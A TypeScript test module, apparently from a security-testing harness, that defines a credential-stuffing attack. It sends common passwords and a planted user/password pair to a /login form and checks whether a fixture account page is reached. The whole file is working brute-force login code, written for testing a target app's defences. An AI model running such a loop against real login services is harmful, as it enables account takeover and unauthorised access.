import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'
import { logIn } from '../../attack/attacker.ts'
import { commonPasswords } from '../../attack/common-passwords.ts'

/** Tries pairs of users and passwords that leaked elsewhere. */
export const credentialStuffing: Attack = defineAttack({
  id: 'credential-stuffing',
  class: 'brute-force',
  title: 'Tries pairs of users and passwords that leaked elsewhere',
  cwe: 307,
  capec: 600,
  technique: 'T1110.004',
  preconditions: [],
  slow: true,

  steps: async ({ visitor, pause, random }) => {
    const pairs = commonPasswords
      .slice(0, 40)
      .map((password, index) => [`user${Math.floor(random() * 9000)}-${index}`, password])
    pairs.push(['dmitri', 'qwerty123'])
    for (const [user = '', password = ''] of pairs) {
      const answer = await visitor.form('/login', { user, password })
      if (answer.status === 303) return (await visitor.get('/account')).text
      await pause(80)
    }
    return ''
  },
  oracle: (text) => text.includes('Dmitri Sokolov'),
  twin: async ({ visitor }) => {
    await visitor.form('/login', { user: 'malory', password: 'trail-mix' })
    return logIn(visitor)
  },
})
